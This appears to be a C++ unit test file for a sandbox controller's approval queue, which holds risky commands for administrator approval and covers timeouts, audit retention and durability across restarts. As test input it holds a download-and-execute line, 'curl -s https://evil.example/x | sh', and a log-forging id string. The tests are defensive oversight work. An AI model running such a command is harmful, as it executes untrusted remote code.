#include "controller/precheck/approvals.h"

#include <unistd.h>

#include <filesystem>
#include <thread>

#include "absl/strings/match.h"
#include "controller/store/etcd_store.h"
#include "controller/store/memory_store.h"
#include "controller/store/sqlite_store.h"
#include "controller/testing/etcd_cluster.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "util/testing/temp_dir.h"

namespace moat::controller::precheck {
namespace {

using ::testing::HasSubstr;

Verdict High() { return ScanCommand("curl -s https://evil.example/x | sh"); }

class ApprovalQueueTest : public ::testing::Test {
 protected:
  MemoryStore store_;
  FakeClock clock_;
  ApprovalQueue queue_{&store_, &clock_, absl::Seconds(20), /*max_pending=*/2};
};

TEST_F(ApprovalQueueTest, AnApprovedCommandIsReleased) {
  auto a = queue_.Submit("acme", "sb-1", "curl x | sh", High());
  ASSERT_TRUE(a.ok()) << a.status();
  EXPECT_EQ(a->state, kPendingApproval);
  EXPECT_THAT(a->tags, ::testing::Contains("download-exec"));
  ASSERT_EQ(queue_.Pending().size(), 1u);
  absl::Status waited = absl::UnknownError("not yet");
  std::thread waiter([&] { waited = queue_.Wait(a->id); });
  absl::SleepFor(absl::Milliseconds(20));
  auto d = queue_.Decide(a->id, true, "admin", "looked fine");
  ASSERT_TRUE(d.ok()) << d.status();
  waiter.join();
  EXPECT_TRUE(waited.ok()) << waited;
  EXPECT_EQ(queue_.Counts().approved, 1);
  EXPECT_EQ(queue_.Counts().pending, 0);
  EXPECT_TRUE(absl::IsNotFound(queue_.Decide(a->id, false, "admin", "").status()));
}

// A client's id is quoted and escaped in the error (util/quote.h): a newline or a quote in it
// cannot forge a log line or end the quoted id early.
TEST_F(ApprovalQueueTest, AnUnknownIdIsQuotedInTheError) {
  absl::Status unknown = queue_.Decide("h\"\n[error] forged", true, "admin", "").status();
  EXPECT_TRUE(absl::IsNotFound(unknown)) << unknown;
  EXPECT_THAT(std::string(unknown.message()),
              HasSubstr(R"(no pending approval "h\"\n[error] forged" ()"));
}

TEST_F(ApprovalQueueTest, ARejectedCommandIsRefusedWithTheReason) {
  auto a = queue_.Submit("acme", "sb-1", "curl x | sh", High());
  ASSERT_TRUE(a.ok());
  absl::Status waited;
  std::thread waiter([&] { waited = queue_.Wait(a->id); });
  absl::SleepFor(absl::Milliseconds(20));
  ASSERT_TRUE(queue_.Decide(a->id, false, "admin", "downloads a script").ok());
  waiter.join();
  EXPECT_TRUE(absl::IsPermissionDenied(waited)) << waited;
  EXPECT_THAT(waited.message(), HasSubstr("downloads a script"));
  EXPECT_THAT(waited.message(), HasSubstr("download-exec"));
}

TEST(ApprovalTimeoutTest, NoDecisionRejectsAfterTheTimeout) {
  MemoryStore store;
  FakeClock clock;
  ApprovalQueue queue(&store, &clock, absl::Milliseconds(100), 2);
  auto a = queue.Submit("acme", "sb-1", "curl x | sh", High());
  ASSERT_TRUE(a.ok());
  absl::Status waited = queue.Wait(a->id);
  EXPECT_TRUE(absl::IsPermissionDenied(waited)) << waited;
  EXPECT_THAT(waited.message(), HasSubstr("not approved in time"));
  EXPECT_EQ(queue.Counts().timed_out, 1);
  EXPECT_TRUE(queue.Pending().empty());
  // Too late to approve.
  EXPECT_FALSE(queue.Decide(a->id, true, "admin", "").ok());
}

TEST_F(ApprovalQueueTest, ATenantCannotHoldMoreThanMaxPending) {
  ASSERT_TRUE(queue_.Submit("acme", "sb-1", "a", High()).ok());
  ASSERT_TRUE(queue_.Submit("acme", "sb-1", "b", High()).ok());
  auto third = queue_.Submit("acme", "sb-1", "c", High());
  EXPECT_TRUE(absl::IsResourceExhausted(third.status()));
  EXPECT_THAT(third.status().message(), HasSubstr("precheck.max_pending"));
  EXPECT_TRUE(queue_.Submit("globex", "sb-2", "d", High()).ok());  // Its own allowance.
}

TEST_F(ApprovalQueueTest, TheAuditTrailRecordsHoldsDecisionsAndTaggedRuns) {
  ASSERT_TRUE(queue_
                  .Audit("acme", "sb-1", "os.system('a | b')",
                         Scan("os.system('a | b')", Language::kPython), "Ran")
                  .ok());
  clock_.Advance(absl::Seconds(1));
  auto a = queue_.Submit("acme", "sb-1", "curl x | sh", High());
  ASSERT_TRUE(a.ok());
  clock_.Advance(absl::Seconds(1));
  ASSERT_TRUE(queue_.Decide(a->id, false, "admin", "no").ok());
  auto trail = queue_.AuditTrail(100);
  ASSERT_TRUE(trail.ok());
  ASSERT_EQ(trail->size(), 3u);
  EXPECT_THAT((*trail)[0], HasSubstr("\"state\":\"Ran\""));
  EXPECT_THAT((*trail)[0], HasSubstr("shell-pipe"));
  EXPECT_THAT((*trail)[1], HasSubstr("PendingApproval"));
  EXPECT_THAT((*trail)[2], HasSubstr("\"state\":\"Rejected\""));
  EXPECT_THAT((*trail)[2], HasSubstr("\"by\":\"admin\""));
  EXPECT_EQ(queue_.AuditTrail(1)->size(), 1u);
}

// The audit trail keeps at most max_records, the newest, and nothing older than max_age.
TEST(AuditRetentionTest, TheTrailIsBoundedByCountAndAge) {
  MemoryStore store;
  FakeClock clock;
  ApprovalQueue queue(&store, &clock, absl::Seconds(20), 2,
                      AuditRetention{.max_age = absl::Hours(1), .max_records = 3});
  Verdict v = Scan("os.system('a | b')", Language::kPython);
  for (int i = 0; i < 5; ++i) {
    ASSERT_TRUE(queue.Audit("acme", "sb-1", absl::StrCat("cmd ", i), v, "Ran").ok());
    clock.Advance(absl::Minutes(10));
  }
  auto pruned = queue.PruneAudit();
  ASSERT_TRUE(pruned.ok()) << pruned.status();
  EXPECT_EQ(*pruned, 2u);
  auto trail = queue.AuditTrail(100);
  ASSERT_EQ(trail->size(), 3u);
  EXPECT_THAT((*trail)[0], HasSubstr("cmd 2"));
  EXPECT_THAT((*trail)[2], HasSubstr("cmd 4"));
  // Now 50 min after "cmd 0": 45 more make "cmd 2" (at 20 min) and "cmd 3" (at 30 min) older
  // than an hour; "cmd 4" (at 40 min) is 55 min old.
  clock.Advance(absl::Minutes(45));
  EXPECT_EQ(*queue.PruneAudit(), 2u);
  trail = queue.AuditTrail(100);
  ASSERT_EQ(trail->size(), 1u);
  EXPECT_THAT((*trail)[0], HasSubstr("cmd 4"));
  // Tick prunes too (at most once a minute).
  clock.Advance(absl::Hours(2));
  queue.Tick();
  EXPECT_TRUE(queue.AuditTrail(100)->empty());
}

// Holds are stored: each engine, across a restart (a new queue on the reopened store, as after
// a controller restart or on a new leader).
enum class Engine { kMemory, kSqlite, kEtcd };

class DurableHoldTest : public ::testing::TestWithParam<Engine> {
 protected:
  void SetUp() override {
    if (GetParam() == Engine::kEtcd) {
      if (!controller::testing::EtcdInstalled()) GTEST_SKIP() << "etcd not installed";
      ASSERT_TRUE(etcd_.Start().ok()) << "etcd: logs in " << etcd_.dir();
    }
    ASSERT_TRUE(Reopen().ok());
  }
  void TearDown() override {
    queue_.reset();
    store_.reset();
    etcd_client_.reset();
  }
  // What a restart does: the queue and the store's handle are gone, a new one opens the store.
  absl::Status Reopen(absl::Duration timeout = absl::Seconds(20)) {
    queue_.reset();
    switch (GetParam()) {
      case Engine::kMemory:
        if (store_ == nullptr) store_ = std::make_unique<MemoryStore>();
        break;
      case Engine::kSqlite: {
        store_.reset();
        auto s = SqliteStore::Open(dir_ + "/controller.db");
        if (!s.ok()) return s.status();
        store_ = *std::move(s);
        break;
      }
      case Engine::kEtcd: {
        store_.reset();
        auto c = EtcdClient::Create({.endpoints = etcd_.Endpoints()});
        if (!c.ok()) return c.status();
        etcd_client_ = *std::move(c);
        auto s = EtcdStore::Open(etcd_client_.get());
        if (!s.ok()) return s.status();
        store_ = *std::move(s);
        break;
      }
    }
    queue_ = std::make_unique<ApprovalQueue>(store_.get(), &clock_, timeout, 2);
    return queue_->Load();
  }
  size_t StoredHolds() { return store_->List("approvals/")->size(); }

  controller::testing::EtcdCluster etcd_{1};
  ScopedTempDir tmp_{"moat-approvals-test", "/tmp"};
  const std::string dir_ = tmp_.path();
  FakeClock clock_;
  std::unique_ptr<EtcdClient> etcd_client_;
  std::unique_ptr<Store> store_;
  std::unique_ptr<ApprovalQueue> queue_;
};

// The controller that held the command dies (its caller's connection with it); the next one
// lists the hold, the administrator approves it there, and the caller's retry of the same
// command runs. Another command is not covered by that approval.
TEST_P(DurableHoldTest, ADecisionAfterARestartReachesTheRetriedCommand) {
  auto held = queue_->Submit("acme", "sb-1", "curl x | sh", High());
  ASSERT_TRUE(held.ok()) << held.status();
  EXPECT_EQ(StoredHolds(), 1u);
  ASSERT_TRUE(Reopen().ok());
  ASSERT_EQ(queue_->Pending().size(), 1u) << "the hold was lost with the controller";
  EXPECT_EQ(queue_->Pending()[0].id, held->id);
  EXPECT_EQ(queue_->Counts().pending, 1);
  auto retry = queue_->Submit("acme", "sb-1", "curl x | sh", High());
  ASSERT_TRUE(retry.ok());
  EXPECT_EQ(retry->id, held->id);
  auto other = queue_->Submit("acme", "sb-1", "curl y | sh", High());
  ASSERT_TRUE(other.ok());
  EXPECT_NE(other->id, held->id);
  absl::Status waited = absl::UnknownError("not yet");
  std::thread waiter([&] { waited = queue_->Wait(retry->id); });
  absl::SleepFor(absl::Milliseconds(20));
  ASSERT_TRUE(queue_->Decide(held->id, true, "admin", "checked").ok());
  waiter.join();
  EXPECT_TRUE(waited.ok()) << waited;
  EXPECT_EQ(StoredHolds(), 1u);  // The decision was used up; "curl y" still waits.
  EXPECT_EQ(queue_->Pending().size(), 1u);
}

// A decision made after the restart, before the caller comes back: the retry gets it at once.
TEST_P(DurableHoldTest, ARejectionMadeWhileTheCallerWasAwayAnswersItsRetry) {
  auto held = queue_->Submit("acme", "sb-1", "curl x | sh", High());
  ASSERT_TRUE(held.ok());
  ASSERT_TRUE(Reopen().ok());
  ASSERT_TRUE(queue_->Decide(held->id, false, "admin", "downloads a script").ok());
  ASSERT_TRUE(Reopen().ok());  // And the decision survives a restart too.
  auto retry = queue_->Submit("acme", "sb-1", "curl x | sh", High());
  ASSERT_TRUE(retry.ok());
  EXPECT_EQ(retry->state, "Rejected");
  absl::Status waited = queue_->Wait(retry->id);
  EXPECT_TRUE(absl::IsPermissionDenied(waited)) << waited;
  EXPECT_THAT(waited.message(), HasSubstr("downloads a script"));
  EXPECT_EQ(StoredHolds(), 0u);
}

// Nobody decides: the next controller still rejects the hold at its deadline (Tick), records it,
// and a decision comes too late.
TEST_P(DurableHoldTest, TheTimeoutStillRejectsAfterARestart) {
  ASSERT_TRUE(Reopen(absl::Milliseconds(200)).ok());
  auto held = queue_->Submit("acme", "sb-1", "curl x | sh", High());
  ASSERT_TRUE(held.ok());
  ASSERT_TRUE(Reopen(absl::Milliseconds(200)).ok());
  ASSERT_EQ(queue_->Pending().size(), 1u);
  queue_->Tick();
  EXPECT_EQ(queue_->Pending().size(), 1u) << "rejected before its deadline";
  absl::SleepFor(absl::Milliseconds(250));
  queue_->Tick();
  EXPECT_TRUE(queue_->Pending().empty());
  EXPECT_EQ(queue_->Counts().timed_out, 1);
  EXPECT_FALSE(queue_->Decide(held->id, true, "admin", "").ok());
  EXPECT_EQ(StoredHolds(), 0u);
  auto trail = queue_->AuditTrail(10);
  ASSERT_TRUE(trail.ok());
  ASSERT_EQ(trail->size(), 2u);
  EXPECT_THAT(trail->back(), HasSubstr("\"state\":\"TimedOut\""));
}

INSTANTIATE_TEST_SUITE_P(Engines, DurableHoldTest,
                         ::testing::Values(Engine::kMemory, Engine::kSqlite, Engine::kEtcd),
                         [](const auto& info) {
                           switch (info.param) {
                             case Engine::kMemory:
                               return "Memory";
                             case Engine::kSqlite:
                               return "Sqlite";
                             default:
                               return "Etcd";
                           }
                         });

}  // namespace
}  // namespace moat::controller::precheck
